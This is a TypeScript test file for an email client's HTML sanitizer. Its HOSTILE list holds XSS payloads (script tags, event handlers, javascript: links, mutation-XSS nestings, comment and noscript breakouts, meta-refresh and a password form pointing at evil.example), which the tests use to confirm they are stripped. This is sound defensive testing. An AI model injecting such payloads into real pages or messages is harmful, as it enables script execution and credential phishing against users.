import assert from 'node:assert/strict';
import fc from 'fast-check';
import { Window } from 'happy-dom';
import {
  isHtml,
  plainMarkup,
  readableText,
  safeDocument,
  safeParts,
} from '../../client/features/messages/message-html.ts';
import { seeded } from '../support/seeded.ts';

const parser = new new Window().DOMParser() as unknown as DOMParser;
const partsOf = (html: string) => safeParts(html, parser) ?? assert.fail('not taken apart');
const textOf = (html: string): string => readableText(partsOf(html));
const bodyOf = (html: string): string =>
  /<font face="[^"]*">(.*)<\/font><\/body><\/html>$/s.exec(safeDocument(partsOf(html)))?.[1] ?? assert.fail(html);

const ALLOWED =
  /<\/?(?:p|div|h[1-6]|br|wbr|hr|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|blockquote|pre|code|b|strong|i|em|u|s|small|sub|sup)(?: (?:dir|align)="[a-z]+"| (?:col|row)span="\d{1,2}")*>/g;
/** Whether only shapes and text are left. */
const isHarmless = (markup: string): boolean => !/[<>]/.test(markup.replaceAll(ALLOWED, ''));

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)" style="background:url(//evil.example/x)" class="x" id="y">',
  '<img src=x onerror=alert(1) alt="Logo">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><p>Your password</p><input name=p><button>Go</button></form>',
  '<a href="javascript:alert(1)">here</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example"></object><embed src="//evil.example">',
  '<link rel=stylesheet href="//evil.example"><style>@import "//evil.example"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<table background="//evil.example"><tr><td colspan="999999" dir="&quot;><script>">x</td></tr></table>',
  '</font></body><script>alert(1)</script>',
  '<video src=x poster=y><track src=z></video><audio src=x autoplay></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p dir="rtl" align="CENTER">',
];

/** Markup that may reach the browser's parser, where the page's policy takes care of styles and handlers. */
const UNREPORTED = /<\/?[a-z][a-z0-9-]*(?: (?:href|alt|dir|align|colspan|rowspan)="[^"<]*")*>/g;
const mails = fc.array(
  fc.oneof(
    fc.constantFrom(...HOSTILE, '<', '>', '"', "'", '</', '<a href="', '<div ', ' style="', '=', '<!--', '-->', '&'),
    fc.string({ maxLength: 8 }),
  ),
  { maxLength: 12 },
);

const nested = fc
  .tuple(
    fc.constantFrom('<', '</'),
    fc.constantFrom(...'p div b a font table tr td li svg select button br'.split(' ')),
  )
  .map(([begins, name]) => `${begins}${name}>`.repeat(begins === '<' ? 20 : 1));

describe('a mail in HTML', () => {
  for (const html of HOSTILE)
    it(`keeps only structure and text: ${html}`, () => {
      assert.ok(isHarmless(bodyOf(`<p>before</p>${html}<p>after</p>`)), bodyOf(html));
    });

  for (const html of HOSTILE)
    it(`would be dangerous if its tags were kept: ${html}`, () => {
      const whole = parser.parseFromString(html, 'text/html');
      const markup = safeDocument(safeParts('', { parseFromString: () => whole }) ?? []);
      assert.ok(isHarmless(markup.replace(/^.*?<font[^>]*>|<\/font><\/body><\/html>$/gs, '')), markup);
      if (html.startsWith('<script>')) assert.ok(!markup.includes('alert'));
    });

  it('keeps only structure and text, in any combination', () =>
    fc.assert(
      fc.property(mails, (pieces) => isHarmless(bodyOf(pieces.join('')))),
      seeded(200),
    ));

  it('reaches the parser without styles, handlers and code, in any combination', () =>
    fc.assert(
      fc.property(mails, (pieces) => {
        const markup = plainMarkup(pieces.join('')) ?? assert.fail('too deep');
        assert.ok(!markup.replaceAll(UNREPORTED, '').includes('<'), markup);
        assert.doesNotMatch(markup, /<(?:script|style|base|iframe) |<(?:script|style)>/);
      }),
      seeded(500),
    ));

  it('reaches the parser with properly nested elements, in any combination', () =>
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...HOSTILE), nested)), (pieces) => {
        const open: string[] = [];
        for (const [, slash, name = ''] of plainMarkup(pieces.join(''))?.matchAll(/<(\/?)([a-z][a-z0-9-]*)/g) ?? []) {
          if (slash === '/') assert.equal(open.pop(), name);
          else if (!['br', 'img', 'input', 'meta', 'link', 'base', 'embed', 'source', 'track'].includes(name))
            open.push(name);
          assert.ok(open.length <= 200);
          assert.ok(open.filter((one) => ['a', 'b', 'i', 'font'].includes(one)).length <= 8);
        }
      }),
      seeded(500),
    ));

  it('is not parsed if it is too long or too deep, which would take a browser seconds', () => {
    const asked: string[] = [];
    const asking = {
      parseFromString: (markup: string) => {
        asked.push(markup);
        return parser.parseFromString('', 'text/html');
      },
    };
    assert.equal(safeParts('<div>'.repeat(201), asking), undefined);
    assert.equal(safeParts('<b><div>'.repeat(20_000), asking), undefined);
    assert.equal(safeParts(`<p>${'a'.repeat(262_144)}`, asking), undefined);
    assert.deepEqual(asked, []);
    assert.notEqual(safeParts('<div>'.repeat(200), asking), undefined);
    assert.notEqual(safeParts('<div><table></div></table>'.repeat(8_000), asking), undefined);
    assert.ok(!asked.join('').includes('<div><table><div>'));
  });

  for (const [source, markup] of [
    ['<p style="a>b" DIR=rtl onclick=x>y</P>', '<p dir="rtl">y</p>'],
    ["<a HREF='x?a=\"1' style=y>z", '<a href="x?a=&quot;1">z'],
    ['a < b <3 <', 'a &lt; b &lt;3 &lt;'],
    ['<style>p{}</style >a<!-- <p> -->b<!doctype html>c', 'abc'],
    ['<img src=x alt="a<b">', '<img alt="a&lt;b">'],
  ] as const)
    it(`is rewritten: ${source}`, () => assert.equal(plainMarkup(source), markup));

  for (const [circumstance, html, text] of [
    ['code, styles and fields', '<style>p{}</style><p>Hi</p><script>x</script><input value="y">', 'Hi'],
    [
      'a link',
      '<p>Go <a href="https://evil.example/?a=1">to your bank</a></p>',
      'Go to your bank (https://evil.example/?a=1)',
    ],
    ['pictures', '<p><img src="https://a.example/x.png" alt="Logo"><img src="y"></p>', '[Logo]'],
    ['blocks and blanks', '<h1>A</h1>\n\n<p>b\n   c<br>d</p><ul><li>e</li><li>f</li></ul>', 'A\n\nb c\nd\n\n• e\n• f'],
    ['a table', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a b\nc'],
    ['what is not seen', '<p>Ada\u202egnp.exe</p>', 'Ada⟨U+202E⟩gnp.exe'],
  ] as const)
    it(`reads as text: ${circumstance}`, () => assert.equal(textOf(html), text));

  it('breaks long words such as URLs if a narrow frame needs it', () => {
    const long = 'a&'.repeat(40);
    const markup = bodyOf(`<p>${long.replaceAll('&', '&amp;')}</p>`);
    assert.match(markup, /<wbr>/);
    assert.equal(markup.replaceAll('<wbr>', ''), `<p>${long.replaceAll('&', '&amp;')}</p>`);
  });

  it('is recognized by its tags', () => {
    for (const body of ['<!DOCTYPE html><html></html>', 'a<br>b', '<p style="x">', '<TABLE width=1>', '</div>'])
      assert.equal(isHtml(body), true, body);
    for (const body of ['Your code: 123', 'a < b > c', '<ada@example.org>', '<https://a.example>', '5 <p and so on'])
      assert.equal(isHtml(body), false, body);
  });
});
